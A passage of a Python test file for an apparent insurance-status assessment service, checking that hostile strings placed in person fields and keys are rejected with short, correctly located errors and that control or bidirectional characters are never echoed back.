    "person.work[0].kind": (lambda text: request(work=[{"kind": text}]), "employee, civil_contract"),
    "person.work[0].from": (lambda text: request(work=[{"kind": "employee", "from": text}]), DAY),
    "person.work[0].to": (lambda text: request(work=[{"kind": "employee", "to": text}]), DAY),
    "person.work[0].monthly_income": (
        lambda text: request(work=[{"kind": "employee", "monthly_income": text}]),
        "whole number of tenge",
    ),
    "person.work[0].suspended": (
        lambda text: request(work=[{"kind": "entrepreneur", "suspended": text}]),
        "true or false",
    ),
    "person.circumstances": (lambda text: request(circumstances=text), "pregnancy"),
    "person.circumstances.pension": (lambda text: request(circumstances={"pension": text}), "true, false"),
    "person.circumstances.remand[0]": (lambda text: request(circumstances={"remand": [text]}), "from, to"),
    "person.circumstances.disability.from": (lambda text: request(circumstances={"disability": {"from": text}}), DAY),
    "person.circumstances.disability.to": (lambda text: request(circumstances={"disability": {"to": text}}), DAY),
    "person.circumstances.disability.group": (
        lambda text: request(circumstances={"disability": {"group": text}}),
        "1, 2 or 3",
    ),
    "person.circumstances.imprisonment.security": (
        lambda text: request(circumstances={"imprisonment": {"security": text}}),
        "minimum, medium",
    ),
    "person.circumstances.raising_child_under_3.child_birth_date": (
        lambda text: request(circumstances={"raising_child_under_3": {"child_birth_date": text}}),
        DAY,
    ),
    "person.wellbeing_level": (lambda text: request(wellbeing_level=text), "A, B, C, D, E"),
    "person.last_pension_contribution": (lambda text: request(last_pension_contribution=text), MONTH),
    "person.polyclinic_attached": (lambda text: request(polyclinic_attached=text), "true or false"),
    "person.care_sought": (lambda text: request(care_sought=text), "list"),
    "person.care_sought[0]": (lambda text: request(care_sought=[text]), DAY),
    "person.contributions": (lambda text: request(contributions=text), "list"),
    "person.contributions[0].kind": (
        lambda text: request(contributions=[{"kind": text, "from": "2026-01"}]),
        "employee, civil_contract",
    ),
    "person.contributions[0].from": (
        lambda text: request(contributions=[{"kind": "employee", "from": text}]),
        MONTH,
    ),
    "person.contributions[0].to": (
        lambda text: request(contributions=[{"kind": "employee", "from": "2026-01", "to": text}]),
        MONTH,
    ),
    "person.diagnoses": (lambda text: request(diagnoses=text), "list"),
    "person.diagnoses[0].icd10": (lambda text: request(diagnoses=[{"icd10": text}]), "ICD-10"),
    "person.diagnoses[0].group": (lambda text: request(diagnoses=[{"group": text}]), "tuberculosis, hiv"),
    "person.diagnoses[0].since": (lambda text: request(diagnoses=[{"icd10": "I21", "since": text}]), DAY),
    "person.diagnoses[0].suspected": (
        lambda text: request(diagnoses=[{"icd10": "I21", "suspected": text}]),
        "true or false",
    ),
}
KEYS: dict[str, tuple[Callable[[str], Json], str]] = {
    "": (lambda text: {**request(), text: 1}, "on, person"),
    "person.": (lambda text: {"person": {text: 1}}, "unmentioned, birth_date"),
    "person.circumstances.": (lambda text: request(circumstances={text: True}), "pregnancy"),
    "person.circumstances.pension.": (lambda text: request(circumstances={"pension": {text: 1}}), "from, to"),
    "person.work[0].": (lambda text: request(work=[{"kind": "employee", text: 1}]), "kind, from, to"),
    "person.contributions[0].": (
        lambda text: request(contributions=[{"kind": "employee", "from": "2026-01", text: 1}]),
        "kind, from, to",
    ),
    "person.diagnoses[0].": (lambda text: request(diagnoses=[{"icd10": "I21", text: 1}]), "icd10, group"),
}
STEERS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")


def errors_of(assess: Assess, build: Callable[[str], Json], escaped: bool) -> Iterator[tuple[str, Json]]:
    """The error of each hostile text; every one stands between two good lines, which must be answered."""
    texts = [text for text in HOSTILE if escaped or not re.search(r"[\ud800-\udfff]", text)]
    lines = [json.dumps(build(text), ensure_ascii=escaped) + "\n" for text in texts]
    outcome = assess(GOOD + GOOD.join(lines) + GOOD)
    assert outcome.status == 2
    assert len(outcome.lines) == 2 * len(texts) + 1
    assert set(states(outcome)[::2]) == {"not_insured"}
    assert not STEERS.search(outcome.text)
    for text, line in zip(texts, outcome.lines[1::2], strict=True):
        assert line.keys() == {"error"}, f"{text!r} was accepted"
        yield text, line["error"]


@pytest.mark.parametrize("escaped", [True, False], ids=["escaped", "raw"])
@pytest.mark.parametrize("path", FIELDS)
def test_hostile_texts_are_refused_and_never_repeated(assess: Assess, path: str, escaped: bool) -> None:
    build, allowed = FIELDS[path]
    for text, error in errors_of(assess, build, escaped):
        assert error["path"] == path, f"{text[:40]!r}"
        assert allowed in error["message"], f"{text[:40]!r}"
        assert len(error["message"]) < 1000


@pytest.mark.parametrize("escaped", [True, False], ids=["escaped", "raw"])
@pytest.mark.parametrize("path", KEYS)
def test_hostile_keys_are_refused_and_cut_short(assess: Assess, path: str, escaped: bool) -> None:
    build, allowed = KEYS[path]
    for text, error in errors_of(assess, build, escaped):
        assert error["path"].startswith(path), f"{text[:40]!r}"
        assert len(error["path"]) < 100
        assert allowed in error["message"], f"{text[:40]!r}"


def test_there_are_enough_hostile_texts() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 40
